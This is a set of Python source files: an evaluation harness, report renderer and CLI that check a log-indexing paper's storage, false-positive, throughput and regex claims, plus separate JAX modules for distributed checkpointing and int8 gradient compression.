            st = build_store_dir(kind, dataset, root / kind, stats=bstats)
            build_s = time.perf_counter() - t0
            ingest_s = bstats.get("ingest_s", build_s)
            try:
                bd = st.storage_breakdown()
                du = st.disk_usage()
                storage_rows.append(
                    {
                        "store": kind,
                        "codec": st.payload_codec,
                        **bd,
                        "total": sum(bd.values()),
                        "index_total": sum(
                            v for k, v in bd.items() if k.startswith("index_")
                        ),
                        "raw_bytes": du.raw_bytes,
                        "n_batches": st.n_batches,
                        "build_s": build_s,
                        "ingest_s": ingest_s,
                        "ingest_lines_per_s": cfg.n_lines / ingest_s if ingest_s else 0.0,
                        "ingest_mb_per_s": (
                            du.raw_bytes / ingest_s / 1e6 if ingest_s else 0.0
                        ),
                    }
                )
                # codec variants reuse the base kind's index byte-for-byte —
                # their FPR rows would duplicate the base store's exactly
                if kind not in VARIANTS:
                    for wl in suite["fpr"]:
                        fpr_rows.append({"store": kind, **false_positive_rate(st, wl)})
                for wl in suite["throughput"]:
                    tp_rows.append({"store": kind, **measure_throughput(st, wl, cfg)})
                for wl in suite["regex"]:
                    regex_rows.append({"store": kind, **measure_regex(st, wl, cfg)})
            finally:
                st.close()
    finally:
        if cleanup:
            shutil.rmtree(root, ignore_errors=True)

    tables = {
        "storage": storage_rows,
        "fpr": fpr_rows,
        "throughput": tp_rows,
        "regex": regex_rows,
    }
    meta = {
        "mode": cfg.mode,
        "config": asdict(cfg),
        "dataset": {
            "kind": cfg.dataset_kind,
            "n_lines": cfg.n_lines,
            "raw_bytes": dataset.raw_bytes,
            "seed": cfg.seed,
        },
        "compression": COMPRESSION,
        "python": platform.python_version(),
        "generated_by": f"python -m repro.eval --{cfg.mode}",
        "generated_at": time.strftime("%Y-%m-%d %H:%M:%S UTC", time.gmtime()),
    }
    for name, rows in tables.items():
        (out_dir / f"{name}.json").write_text(json.dumps(rows, indent=1))
    (out_dir / "meta.json").write_text(json.dumps(meta, indent=1))
    return {**tables, "meta": [meta]}


__all__ = [
    "EvalConfig",
    "STORES",
    "VARIANTS",
    "build_store_dir",
    "scaled_max_batches",
    "store_kwargs",
    "eval_workloads",
    "false_positive_rate",
    "forced_scan",
    "measure_regex",
    "measure_throughput",
    "run_eval",
]
