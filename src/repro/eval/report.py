"""Render ``docs/results.md`` from the harness's JSON rows.

The report is a *pure function* of ``experiments/paper/*.json`` — no
measuring, no clocks, no environment reads — so CI regenerates it from the
committed JSON and fails the build on any diff (the report can never drift
from the data behind it).

Three tables mirror the paper's three claims, each followed by a claim-check
block with an explicit deviation column:

1. storage breakdown per store (every byte of the persisted directory,
   split by component) → *"up to 93% less storage than an inverted index"*;
2. false-positive rate on verified-absent probes → *"up to four orders of
   magnitude fewer false positives than a membership sketch (CSC)"*;
3. query throughput per workload → *"up to 250×/240× higher query
   throughput"*.

A fourth table (regex prefiltering, ISSUE 10) renders when the run produced
``regex.json`` — older committed result directories without it (e.g.
``experiments/paper-xl``) still render unchanged.
"""

from __future__ import annotations

import json
import math
from pathlib import Path

#: headline claims from the paper's abstract / §6 (the targets the deviation
#: columns measure against)
PAPER_CLAIMS = {
    "storage_saving_vs_inverted": 0.93,  # fraction of index bytes saved
    "fpr_orders_vs_csc": 4.0,  # log10(csc FPR / copr FPR)
    "throughput_speedup": (250.0, 240.0),  # best-case ×, two baselines
    # ISSUE 9 (Logzip-style template/variable split): payload bytes the
    # template codec must shave off the raw-codec baseline, and the floor
    # for the constant-only Contains speedup it must deliver
    "payload_shrink_template": 0.40,
    "const_contains_speedup": 1.0,
    # ISSUE 10: prefiltered regex qps over forced-scan, rare/mid tiers
    "regex_prefilter_speedup": 5.0,
}


def _payload_bytes(r: dict) -> int:
    """Total payload footprint of a storage row: raw codec fills
    ``batch_payloads`` only, the template codec splits the same bytes into
    blob + dictionary + variable columns — comparing codecs must charge the
    template store for its dictionaries."""
    return (
        r.get("batch_payloads", 0)
        + r.get("payload_templates", 0)
        + r.get("payload_variables", 0)
    )

#: canonical column order for index components across all five stores
_INDEX_COLS = [
    "index_mphf",
    "index_signatures",
    "index_csf",
    "index_postings",
    "index_bits",
    "index_lexicon",
    "index_offsets",
    "index_other",
]


def load_tables(out_dir: str | Path) -> dict:
    out_dir = Path(out_dir)
    tables = {}
    for name in ("storage", "fpr", "throughput", "meta"):
        p = out_dir / f"{name}.json"
        if not p.exists():
            raise FileNotFoundError(
                f"{p} missing — run `python -m repro.eval --smoke` first"
            )
        tables[name] = json.loads(p.read_text())
    # regex.json is OPTIONAL: result directories committed before the regex
    # sweep existed (e.g. experiments/paper-xl) still render without it
    regex_p = out_dir / "regex.json"
    tables["regex"] = json.loads(regex_p.read_text()) if regex_p.exists() else []
    return tables


# -- formatting helpers (deterministic: pure string functions of the rows) -----------


def _md_table(cols: list[str], rows: list[list[str]]) -> str:
    out = ["| " + " | ".join(cols) + " |", "|" + "---|" * len(cols)]
    out += ["| " + " | ".join(r) + " |" for r in rows]
    return "\n".join(out)


def _bytes(v: int | None) -> str:
    return f"{v:,}" if v else ("0" if v == 0 else "–")


def _fpr(v: float) -> str:
    # "0" means zero false positives OBSERVED in this run — only the claim
    # check, which knows the probe count, may turn that into a bound (and
    # only an exact index like `inverted` earns the word "exact")
    return "0" if v == 0 else f"{v:.2e}"


def _pct(v: float) -> str:
    return f"{100 * v:.1f}%"


def _find(rows: list[dict], **kv) -> dict | None:
    for r in rows:
        if all(r.get(k) == v for k, v in kv.items()):
            return r
    return None


# -- the three sections ---------------------------------------------------------------


def _storage_section(rows: list[dict]) -> str:
    inv = _find(rows, store="inverted")
    inv_index = inv["index_total"] if inv else 0
    cols = [c for c in _INDEX_COLS if any(r.get(c) for r in rows)]
    # payload columns: raw codec fills "batch payloads", template codec fills
    # the dictionary/variable split — show whichever this run produced
    pcols = [
        c
        for c in ("batch_payloads", "payload_templates", "payload_variables")
        if any(r.get(c) for r in rows)
    ] or ["batch_payloads"]
    pcol_names = {
        "batch_payloads": "batch payloads",
        "payload_templates": "tpl dict",
        "payload_variables": "variables",
    }
    head = (
        ["store", "codec"]
        + [pcol_names[c] for c in pcols]
        + [c.removeprefix("index_") for c in cols]
        + ["index total", "manifest", "wal", "dir total", "index/raw", "saving vs inverted"]
    )
    body = []
    for r in rows:
        # the saving column only means something for stores that HAVE an
        # index — an index-less scan store would otherwise "win" with 100%
        has_saving = inv_index and r is not inv and r["index_total"] > 0
        saving = 1 - r["index_total"] / inv_index if has_saving else 0.0
        body.append(
            [
                r["store"],
                r.get("codec", "raw"),
                *[_bytes(r.get(c)) for c in pcols],
                *[_bytes(r.get(c)) for c in cols],
                _bytes(r["index_total"]),
                _bytes(r["manifest"]),
                _bytes(r["wal"]),
                _bytes(r["total"]),
                _pct(r["index_total"] / max(1, r["raw_bytes"])),
                _pct(saving) if has_saving else "–",
            ]
        )
    claim = PAPER_CLAIMS["storage_saving_vs_inverted"]
    checks = []
    for kind in ("copr", "sharded"):
        r = _find(rows, store=kind)
        if r is None or not inv_index:
            continue
        measured = 1 - r["index_total"] / inv_index
        checks.append(
            [
                f"`{kind}` index vs `inverted` index",
                f"up to {_pct(claim)} smaller",
                _pct(measured),
                f"{100 * (measured - claim):+.1f} pp",
                "✅ meets" if measured >= claim else "⚠️ below",
            ]
        )
    tpl_row = _find(rows, store="copr")
    raw_row = _find(rows, store="copr-raw")
    if tpl_row and raw_row and _payload_bytes(raw_row):
        target = PAPER_CLAIMS["payload_shrink_template"]
        shrink = 1 - _payload_bytes(tpl_row) / _payload_bytes(raw_row)
        checks.append(
            [
                "`copr` payload vs `copr-raw` (template codec, incl. tpl dict)",
                f"≥ {_pct(target)} smaller",
                _pct(shrink),
                f"{100 * (shrink - target):+.1f} pp",
                "✅ meets" if shrink >= target else "⚠️ below",
            ]
        )
    check_tbl = _md_table(
        ["claim", "paper", "measured", "deviation", "verdict"], checks
    )
    build_tbl = ""
    if any("ingest_lines_per_s" in r for r in rows):
        build_rows = [
            [
                r["store"],
                f"{r['build_s']:.2f}",
                f"{r['ingest_s']:.2f}",
                f"{r['ingest_lines_per_s']:,.0f}",
                f"{r['ingest_mb_per_s']:.1f}",
            ]
            for r in rows
            if "ingest_lines_per_s" in r
        ]
        build_tbl = (
            "\n\n**Build throughput.**  Ingest goes through the batched write"
            " path (`ingest_many`, 8192-line batches): slab tokenize → one"
            " fingerprint kernel call → bulk insert → group-committed WAL"
            " (one fsync per batch).  `build s` includes finish + compact;"
            " `ingest s` is the ingest loop alone.\n\n"
            + _md_table(
                ["store", "build s", "ingest s", "ingest lines/s", "ingest MB/s"],
                build_rows,
            )
        )
    return (
        "## 1. Storage breakdown\n\n"
        "Every byte of each persisted store directory (`storage_breakdown()`,"
        " measured from the `StoreDir` after finish + reopen; components sum"
        " exactly to the directory size).\n\n"
        + _md_table(head, body)
        + build_tbl
        + "\n\n**Claim check — storage.**\n\n"
        + check_tbl
        + "\n\n> The saving grows with corpus size: the inverted lexicon"
        " stores every unique term verbatim plus fixed-width posting"
        " offsets, while the sketch pays a few *bits* per token (MPHF +"
        " signature + CSF rank) and shares BIC-coded posting lists across"
        " tokens, so small corpora understate the paper's number — compare"
        " `--smoke` against `--full`.  Note also that the sketch's posting"
        " bytes buy *arbitrary substring* queries (rule-6–8 n-gram"
        " postings); the lexicon answers only full terms and within-token"
        " substrings at this price.  `sharded` carries full 32-bit"
        " fingerprints per sealed segment (the §4.3 mergeable layout) —"
        " always-queryable ingest costs index bytes; `compact()` has"
        " already folded each shard here."
    )


def _fpr_section(rows: list[dict]) -> str:
    workloads = sorted({r["workload"] for r in rows})
    head = ["store", "workload", "negative probes", "known batches", "fp candidates", "FPR", "× fewer than csc"]
    body = []
    for wl in workloads:
        csc = _find(rows, store="csc", workload=wl)
        csc_fpr = csc["fpr"] if csc else 0.0
        for r in [r for r in rows if r["workload"] == wl]:
            if csc is None:
                ratio = "–"  # no csc in this run: nothing to compare against
            elif r["fpr"] > 0 and csc_fpr > 0:
                x = csc_fpr / r["fpr"]
                ratio = f"{x:,.0f}×" if x >= 100 else f"{x:.2g}×"
            elif csc_fpr > 0:
                ratio = "∞ (no FPs)"
            elif r["fpr"] > 0:
                ratio = "worse than csc"  # baseline had zero FPs here
            else:
                ratio = "–"
            body.append(
                [
                    r["store"],
                    wl,
                    str(r["n_probes"]),
                    str(r["n_batches"]),
                    str(r["fp_candidates"]),
                    _fpr(r["fpr"]),
                    ratio if r["store"] != "csc" else "1×",
                ]
            )
    claim = PAPER_CLAIMS["fpr_orders_vs_csc"]
    checks = []
    for kind in ("copr", "sharded"):
        for wl in workloads:
            r = _find(rows, store=kind, workload=wl)
            csc = _find(rows, store="csc", workload=wl)
            if r is None or csc is None:
                continue
            if csc["fpr"] == 0:
                # no baseline FPs → no ratio, but a sketch that is WORSE
                # than the baseline must never vanish from the claim check
                if r["fpr"] > 0:
                    checks.append(
                        [
                            f"`{kind}` vs `csc` ({wl})",
                            f"up to {claim:.0f} orders fewer",
                            f"{r['fp_candidates']} FPs (FPR {r['fpr']:.1e}) where csc had 0",
                            "n/a",
                            "⚠️ above csc on this workload",
                        ]
                    )
                continue
            if r["fpr"] == 0:
                # no FPs observed: the ratio is bounded below by what one
                # candidate would have cost — report the bound, not ∞.  The
                # bound saturates at log10(csc_fpr · probes · batches), so a
                # bound under the claim is a probe-count limit, not a miss.
                floor = 1 / (r["n_probes"] * r["n_batches"])
                orders = math.log10(csc["fpr"] / floor)
                measured = f"≥ {orders:.1f} orders (0 FPs in {r['n_probes']} probes)"
                verdict = (
                    "✅ meets" if orders >= claim else "✅ consistent (bound capped by probe count)"
                )
            else:
                orders = math.log10(csc["fpr"] / r["fpr"])
                measured = f"{orders:.1f} orders"
                verdict = "✅ meets" if orders >= claim else "⚠️ below"
            checks.append(
                [
                    f"`{kind}` vs `csc` ({wl})",
                    f"up to {claim:.0f} orders fewer",
                    measured,
                    f"{orders - claim:+.1f}",
                    verdict,
                ]
            )
    return (
        "## 2. False-positive rate\n\n"
        "Verified-absent probes (every candidate batch is a false positive"
        " by construction); FPR = fp candidates / (negative probes × known"
        " batches) — the same definition `benchmarks/bench_error_rate.py`"
        " reports.\n\n"
        + _md_table(head, body)
        + "\n\n**Claim check — false positives.**\n\n"
        + (
            _md_table(["claim", "paper", "measured", "deviation", "verdict"], checks)
            if checks
            else "_csc produced no false positives on any workload at this"
            " scale — no ratio to check; rerun with more lines/probes._"
        )
    )


def _throughput_section(rows: list[dict]) -> str:
    workloads = sorted({r["workload"] for r in rows})
    head = ["store", "workload", "qps", "p50 batch ms", "mean candidate batches", "× vs scan"]
    body = []
    for wl in workloads:
        scan = _find(rows, store="scan", workload=wl)
        scan_qps = scan["qps"] if scan else 0.0
        for r in [r for r in rows if r["workload"] == wl]:
            body.append(
                [
                    r["store"],
                    wl,
                    f"{r['qps']:,.1f}",
                    f"{r['p50_batch_ms']:.2f}",
                    f"{r['mean_candidates']:.1f}",
                    f"{r['qps'] / scan_qps:,.1f}×" if scan_qps else "–",
                ]
            )
    c_scan, c_inv = PAPER_CLAIMS["throughput_speedup"]
    checks = []
    for kind in ("copr", "sharded"):
        for base, target in (("scan", c_scan), ("inverted", c_inv)):
            best, best_wl = 0.0, "–"
            for wl in workloads:
                r = _find(rows, store=kind, workload=wl)
                b = _find(rows, store=base, workload=wl)
                if r and b and b["qps"] > 0 and r["qps"] / b["qps"] > best:
                    best, best_wl = r["qps"] / b["qps"], wl
            checks.append(
                [
                    f"`{kind}` vs `{base}` (best workload: {best_wl})",
                    f"up to {target:.0f}×",
                    f"{best:,.1f}×",
                    f"{best - target:+,.1f}×",
                    "✅ meets" if best >= target else "⚠️ below (see note)",
                ]
            )
    # ISSUE 9: the template codec must beat its own raw-codec twin on the
    # constant-only Contains workload (same index, only the payload layer
    # differs — the ratio is the fast path's measured worth)
    floor = PAPER_CLAIMS["const_contains_speedup"]
    for wl in workloads:
        if not wl.startswith("contains-const"):
            continue
        r = _find(rows, store="copr", workload=wl)
        b = _find(rows, store="copr-raw", workload=wl)
        if r and b and b["qps"] > 0:
            x = r["qps"] / b["qps"]
            checks.append(
                [
                    f"`copr` (template codec) vs `copr-raw` ({wl})",
                    f"> {floor:.0f}× (qps improvement)",
                    f"{x:,.2f}×",
                    f"{x - floor:+,.2f}×",
                    "✅ meets" if x > floor else "⚠️ below",
                ]
            )
    return (
        "## 3. Query throughput\n\n"
        "`search_many` in server-sized batches over the shared seeded"
        " workloads (timed window, warm-up excluded).\n\n"
        + _md_table(head, body)
        + "\n\n**Claim check — throughput.**\n\n"
        + _md_table(["claim", "paper", "measured", "deviation", "verdict"], checks)
        + "\n\n> **Scale note.**  The paper's 250×/240× are *up to* numbers at"
        " production scale (10⁹+ lines, JIT'd Java, selective needles over"
        " huge corpora).  This reproduction runs a pure-python pipeline on a"
        " corpus ~10⁴× smaller, where per-query fixed costs (tokenization,"
        " plan setup) dominate and the scan baseline still fits in cache —"
        " the speedup grows with corpus size (see"
        " `benchmarks/bench_selectivity.py`), so the deviation here is a"
        " floor, not a ceiling."
    )


def _regex_section(rows: list[dict]) -> str:
    workloads = sorted({r["workload"] for r in rows})
    head = [
        "store", "workload", "tier", "prefiltered qps", "forced-scan qps",
        "speedup", "p50 batch ms", "mean candidate batches", "fallback scans",
    ]
    body = []
    for wl in workloads:
        for r in [r for r in rows if r["workload"] == wl]:
            fb = str(r["fallback_scans"])
            if r["n_degenerate"]:
                fb += f" ({r['n_degenerate']} degenerate)"
            body.append(
                [
                    r["store"],
                    wl,
                    r["tier"],
                    f"{r['qps']:,.1f}",
                    f"{r['scan_qps']:,.1f}",
                    f"{r['speedup']:,.1f}×",
                    f"{r['p50_batch_ms']:.2f}",
                    f"{r['mean_candidates']:.1f}",
                    fb,
                ]
            )
    target = PAPER_CLAIMS["regex_prefilter_speedup"]
    checks = []
    for kind in ("copr", "sharded"):
        for tier in ("rare", "mid"):
            r = _find(rows, store=kind, tier=tier)
            if r is None:
                continue
            checks.append(
                [
                    f"`{kind}` regex prefilter vs forced scan ({tier} tier)",
                    f"≥ {target:.0f}×",
                    f"{r['speedup']:,.1f}×",
                    f"{r['speedup'] - target:+,.1f}×",
                    "✅ meets" if r["speedup"] >= target else "⚠️ below",
                ]
            )
    # planner honesty: literal-bearing patterns must never silently fall
    # back to a scan — only the degenerate mix (and the scan store) may
    stray = sum(
        r["fallback_scans"] - r["n_degenerate"]
        for r in rows
        if r["store"] != "scan"
    )
    n_idx = sum(r["store"] != "scan" for r in rows)
    checks.append(
        [
            "literal-bearing regex never falls back to scan (indexed stores)",
            "0 stray fallbacks",
            f"{stray} stray across {n_idx} rows",
            f"{stray:+d}",
            "✅ meets" if stray == 0 else "⚠️ silent scan degradation",
        ]
    )
    return (
        "## 4. Regex throughput\n\n"
        "Tiered `Regex` workloads (literals drawn from the corpus vocabulary"
        " at a controlled selectivity), measured twice per store: with the"
        " literal prefilter lowering patterns onto the gram-posting candidate"
        " algebra, and forced to scan (`prefilter=False`).  The exact"
        " compiled regex runs as a post-filter either way — the two columns"
        " return byte-identical lines (`tests/test_regex_oracle.py`); the"
        " ratio is what the extraction buys.  `fallback scans` counts probes"
        " whose prefilter degenerated to a full scan.\n\n"
        + _md_table(head, body)
        + "\n\n**Claim check — regex prefiltering (ISSUE 10).**\n\n"
        + _md_table(["claim", "target", "measured", "deviation", "verdict"], checks)
    )


# -- assembly -------------------------------------------------------------------------


def render(tables: dict) -> str:
    meta = tables["meta"]
    meta = meta[0] if isinstance(meta, list) else meta
    ds = meta["dataset"]
    header = (
        "# Results — paper §6 reproduction\n\n"
        "> **Generated file — do not edit.**  Produced by"
        f" `{meta['generated_by']}` on {meta['generated_at']}"
        f" (python {meta['python']}, compression `{meta['compression']}`);"
        " re-render with `python -m repro.eval --render-only`.  CI fails if"
        " this file does not match `experiments/paper/*.json`"
        " (`python -m repro.eval --check-stale`).\n\n"
        f"Dataset: `{ds['kind']}` generator, {ds['n_lines']:,} lines"
        f" ({ds['raw_bytes']:,} raw bytes), seed {ds['seed']}; mode"
        f" `{meta['mode']}`.  All stores are built persistently, closed, and"
        " reopened from disk before measuring; all three tables use the same"
        " seeded workloads (`repro.eval.workloads`).  Paper→code map:"
        " [docs/architecture.md](architecture.md).\n"
    )
    sections = [
        header.rstrip(),
        _storage_section(tables["storage"]),
        _fpr_section(tables["fpr"]),
        _throughput_section(tables["throughput"]),
    ]
    if tables.get("regex"):
        sections.append(_regex_section(tables["regex"]))
    return "\n\n".join(sections) + "\n"


def write_report(out_dir: str | Path, results_path: str | Path) -> str:
    text = render(load_tables(out_dir))
    Path(results_path).parent.mkdir(parents=True, exist_ok=True)
    Path(results_path).write_text(text)
    return text


def check_stale(out_dir: str | Path, results_path: str | Path) -> bool:
    """True if ``results_path`` matches what the JSON renders to."""
    expect = render(load_tables(out_dir))
    p = Path(results_path)
    return p.exists() and p.read_text() == expect


__all__ = ["PAPER_CLAIMS", "check_stale", "load_tables", "render", "write_report"]
