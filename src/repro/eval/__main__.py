"""CLI driver: ``python -m repro.eval --smoke|--full`` (see docs/results.md).

Measures the paper's three claims (storage / FPR / throughput) for every
store over shared seeded workloads, persists JSON rows under
``experiments/paper/`` and renders ``docs/results.md``.  ``--render-only``
re-renders the report from existing JSON; ``--check-stale`` exits non-zero
if the committed report does not match the committed JSON (the CI guard).
"""

from __future__ import annotations

import argparse
import sys

import json
from pathlib import Path

from .harness import EvalConfig, run_eval
from .report import check_stale, write_report


def _warn_on_mode_downgrade(out_dir: str, new_mode: str) -> None:
    """A `--smoke` run over committed `--full` artifacts replaces the
    paper-shaped numbers with CI-scale ones — legal (the report stays
    consistent, `--check-stale` keeps passing) but worth shouting about,
    since the only other trace is `mode` inside meta.json."""
    meta_p = Path(out_dir) / "meta.json"
    try:
        old_mode = json.loads(meta_p.read_text()).get("mode")
    except (OSError, ValueError):
        return
    if old_mode == "full" and new_mode != "full":
        print(
            f"WARNING: overwriting --full results in {out_dir} with a"
            f" --{new_mode} run — rerun `python -m repro.eval --full` before"
            " committing if the paper-shaped numbers should stay",
            file=sys.stderr,
        )


def main(argv: list[str] | None = None) -> int:
    ap = argparse.ArgumentParser(prog="python -m repro.eval", description=__doc__)
    mode = ap.add_mutually_exclusive_group()
    mode.add_argument("--smoke", action="store_true", help="CI-sized run (default)")
    mode.add_argument("--full", action="store_true", help="paper-shaped sweep (slower)")
    mode.add_argument(
        "--xl", action="store_true",
        help="10⁶-line sweep (copr/sharded/scan; own output dir, hours-scale)",
    )
    ap.add_argument(
        "--out", default=None,
        help="JSON output directory (default experiments/paper; --xl uses"
        " experiments/paper-xl so the committed --full tables stay put)",
    )
    ap.add_argument("--results", default="docs/results.md", help="report path")
    ap.add_argument("--lines", type=int, default=None, help="override dataset size")
    ap.add_argument("--seed", type=int, default=None, help="override dataset seed")
    ap.add_argument(
        "--keep-stores", action="store_true",
        help="leave the persistent store dirs under <out>/stores for inspection",
    )
    ap.add_argument(
        "--render-only", action="store_true",
        help="skip measuring; re-render the report from existing JSON",
    )
    ap.add_argument(
        "--check-stale", action="store_true",
        help="exit 1 if the report does not match the JSON (regenerate-and-diff)",
    )
    args = ap.parse_args(argv)

    if args.xl:
        cfg = EvalConfig.xl()
    elif args.full:
        cfg = EvalConfig.full()
    else:
        cfg = EvalConfig.smoke()
    if args.out is None:
        args.out = cfg.out_dir
    else:
        cfg.out_dir = args.out
    if args.results == "docs/results.md" and args.xl:
        args.results = "docs/results-xl.md"

    if args.check_stale:
        if check_stale(args.out, args.results):
            print(f"{args.results} is up to date with {args.out}/*.json")
            return 0
        print(
            f"STALE: {args.results} does not match what {args.out}/*.json renders"
            " to.\nRegenerate with: PYTHONPATH=src python -m repro.eval"
            " --render-only",
            file=sys.stderr,
        )
        return 1

    if args.render_only:
        write_report(args.out, args.results)
        print(f"rendered {args.results} from {args.out}/*.json")
        return 0

    if args.lines is not None:
        cfg.n_lines = args.lines
    if args.seed is not None:
        cfg.seed = args.seed
    cfg.keep_stores = args.keep_stores
    _warn_on_mode_downgrade(args.out, cfg.mode)
    tables = run_eval(cfg)
    print(write_report(args.out, args.results))
    print(
        f"[eval] wrote {args.out}/{{storage,fpr,throughput,regex,meta}}.json and"
        f" {args.results} ({sum(len(v) for k, v in tables.items() if k != 'meta')}"
        " rows)",
        file=sys.stderr,
    )
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
