"""Distributed checkpointing: sharded save, atomic publish, elastic restore.

Layout (one directory per step):

    ckpt-000042.tmp/            # written first
      manifest.json             # tree structure, shapes, dtypes, chunking
      leaf-000000-c00.npy       # leaf 0, chunk 0 (chunked along dim 0)
      ...
    ckpt-000042/                # atomic rename after fsync — readers never
                                # see a partial checkpoint

* Each leaf is split into ``chunks`` row-chunks — stand-ins for per-host
  shard files; a restoring job reads only the chunks covering its shards.
* **Elastic restore**: the manifest stores logical dim names, not mesh
  coordinates, so a checkpoint written on an 8×4×4 mesh restores onto any
  other mesh — shardings are recomputed from the target mesh's rule table
  and arrays are placed with ``jax.device_put``.
* Failure recovery: ``latest_step`` scans for the newest complete directory;
  ``.tmp`` debris from crashed writers is ignored and garbage-collected.
"""

from __future__ import annotations

import json
import os
import shutil
from pathlib import Path

import jax
import numpy as np


def _flatten_with_paths(tree):
    leaves, treedef = jax.tree.flatten(tree)
    paths = [
        "/".join(str(getattr(k, "key", getattr(k, "idx", k))) for k in path)
        for path, _ in jax.tree_util.tree_flatten_with_path(tree)[0]
    ]
    return leaves, paths, treedef


def save_checkpoint(root: str | Path, step: int, params, *, extra: dict | None = None, chunks: int = 4) -> Path:
    root = Path(root)
    root.mkdir(parents=True, exist_ok=True)
    final = root / f"ckpt-{step:06d}"
    tmp = root / f"ckpt-{step:06d}.tmp"
    if tmp.exists():
        shutil.rmtree(tmp)
    tmp.mkdir(parents=True)

    leaves, paths, treedef = _flatten_with_paths(params)
    manifest = {"step": step, "extra": extra or {}, "leaves": []}
    for i, (leaf, path) in enumerate(zip(leaves, paths)):
        arr = np.asarray(jax.device_get(leaf))
        n_chunks = max(1, min(chunks, arr.shape[0] if arr.ndim else 1))
        bounds = np.linspace(0, arr.shape[0] if arr.ndim else 1, n_chunks + 1, dtype=int)
        files = []
        for c in range(n_chunks):
            fn = f"leaf-{i:06d}-c{c:02d}.npy"
            part = arr[bounds[c] : bounds[c + 1]] if arr.ndim else arr
            np.save(tmp / fn, part)
            files.append({"file": fn, "rows": [int(bounds[c]), int(bounds[c + 1])]})
        manifest["leaves"].append(
            {
                "path": path,
                "shape": list(arr.shape),
                "dtype": str(arr.dtype),
                "chunks": files,
            }
        )
    (tmp / "manifest.json").write_text(json.dumps(manifest))
    # fsync directory contents then atomically publish
    for f in tmp.iterdir():
        with open(f, "rb") as fh:
            os.fsync(fh.fileno())
    if final.exists():
        shutil.rmtree(final)
    os.replace(tmp, final)
    return final


def latest_step(root: str | Path) -> int | None:
    root = Path(root)
    if not root.exists():
        return None
    steps = []
    for d in root.iterdir():
        if d.is_dir() and d.name.startswith("ckpt-") and not d.name.endswith(".tmp"):
            if (d / "manifest.json").exists():
                steps.append(int(d.name.split("-")[1]))
        elif d.name.endswith(".tmp"):
            shutil.rmtree(d, ignore_errors=True)  # crashed writer debris
    return max(steps) if steps else None


def _load_leaf(ckpt_dir: Path, entry: dict) -> np.ndarray:
    parts = [np.load(ckpt_dir / c["file"]) for c in entry["chunks"]]
    if len(parts) == 1:
        arr = parts[0]
    else:
        arr = np.concatenate(parts, axis=0)
    return arr.reshape(entry["shape"]).astype(entry["dtype"])


def restore_checkpoint(root: str | Path, step: int, template, *, shardings=None):
    """Restore into the structure of ``template``.

    ``shardings``: optional matching pytree of NamedShardings for the target
    mesh (elastic restore) — arrays are placed shard-by-shard.
    """
    ckpt_dir = Path(root) / f"ckpt-{step:06d}"
    manifest = json.loads((ckpt_dir / "manifest.json").read_text())
    _, paths, treedef = _flatten_with_paths(template)
    by_path = {e["path"]: e for e in manifest["leaves"]}
    out_leaves = []
    sh_leaves = jax.tree.leaves(shardings) if shardings is not None else [None] * len(paths)
    for path, sh in zip(paths, sh_leaves):
        if path not in by_path:
            raise KeyError(f"checkpoint missing leaf {path}")
        arr = _load_leaf(ckpt_dir, by_path[path])
        out_leaves.append(jax.device_put(arr, sh) if sh is not None else jax.numpy.asarray(arr))
    return jax.tree.unflatten(treedef, out_leaves), manifest


def restore_latest(root: str | Path, template, *, shardings=None):
    step = latest_step(root)
    if step is None:
        return None, None
    params, manifest = restore_checkpoint(root, step, template, shardings=shardings)
    return params, manifest
