"""int8 error-feedback gradient compression for the data-parallel all-reduce.

1-bit/8-bit SGD-style: each worker quantizes (grad + carried error) to int8
with a per-tensor scale, all-reduces the int8 payload (as int32 to avoid
overflow at ≤ 2^23 workers), dequantizes, and carries the quantization
residual into the next step.  Compression is transparent to the optimizer.

Used through :func:`compressed_psum` inside a ``shard_map`` over the data
axis; off by default (config flag ``grad_compression``) — the dry-run proves
it compiles on the production mesh, the unit tests prove error feedback keeps
long-run bias at zero.
"""

from __future__ import annotations


import jax
import jax.numpy as jnp


def quantize_int8(x: jax.Array):
    """Per-tensor symmetric int8 quantization. Returns (q, scale)."""
    amax = jnp.max(jnp.abs(x))
    scale = jnp.maximum(amax, 1e-12) / 127.0
    q = jnp.clip(jnp.round(x / scale), -127, 127).astype(jnp.int8)
    return q, scale


def dequantize_int8(q: jax.Array, scale: jax.Array):
    return q.astype(jnp.float32) * scale


def compress_with_feedback(grad, error):
    """(grad, carried error) → (int8 payload, scale, new error)."""
    g = grad.astype(jnp.float32) + error
    q, scale = quantize_int8(g)
    deq = dequantize_int8(q, scale)
    return q, scale, g - deq


def compressed_psum(grads, errors, axis_name: str):
    """All-reduce a grad pytree in int8 with error feedback.

    Must run inside shard_map/pmap over ``axis_name``.  Scales are
    all-reduced with MAX so every worker dequantizes identically; payloads
    are summed as int32.
    """
    n = jax.lax.psum(1, axis_name)

    def one(g, e):
        g32 = g.astype(jnp.float32) + e
        amax = jnp.max(jnp.abs(g32))
        scale = jax.lax.pmax(jnp.maximum(amax, 1e-12), axis_name) / 127.0
        q = jnp.clip(jnp.round(g32 / scale), -127, 127).astype(jnp.int8)
        new_e = g32 - q.astype(jnp.float32) * scale
        q_sum = jax.lax.psum(q.astype(jnp.int32), axis_name)
        mean = (q_sum.astype(jnp.float32) * scale / n).astype(g.dtype)
        return mean, new_e

    out = jax.tree.map(one, grads, errors)
    means = jax.tree.map(lambda t: t[0], out, is_leaf=lambda t: isinstance(t, tuple))
    new_errors = jax.tree.map(lambda t: t[1], out, is_leaf=lambda t: isinstance(t, tuple))
    return means, new_errors


def init_error_state(params):
    return jax.tree.map(lambda p: jnp.zeros(p.shape, jnp.float32), params)


def make_compressed_dp_grad_fn(loss_fn, mesh, *, axis_name: str = "data"):
    """Data-parallel grad with int8-compressed all-reduce via shard_map.

    Params replicated across ``axis_name``; batch sharded on dim 0.  Returns
    grad_step(params, err, batch) -> (grads, new_err, loss) — all collectives
    explicit in the lowering (visible to the roofline parser).
    """
    from jax.sharding import PartitionSpec as P

    def local_grad(params, err, batch):
        (loss, _), g = jax.value_and_grad(loss_fn, has_aux=True)(params, batch)
        g_mean, new_err = compressed_psum(g, err, axis_name)
        loss = jax.lax.pmean(loss, axis_name)
        return g_mean, new_err, loss

    def grad_step(params, err, batch):
        in_specs = (
            jax.tree.map(lambda _: P(), params),
            jax.tree.map(lambda _: P(), err),
            jax.tree.map(lambda _: P(axis_name), batch),
        )
        out_specs = (
            jax.tree.map(lambda _: P(), params),
            jax.tree.map(lambda _: P(), err),
            P(),
        )
        fn = jax.shard_map(
            local_grad, mesh=mesh, in_specs=in_specs, out_specs=out_specs, check_vma=False
        )
        return fn(params, err, batch)

    return grad_step
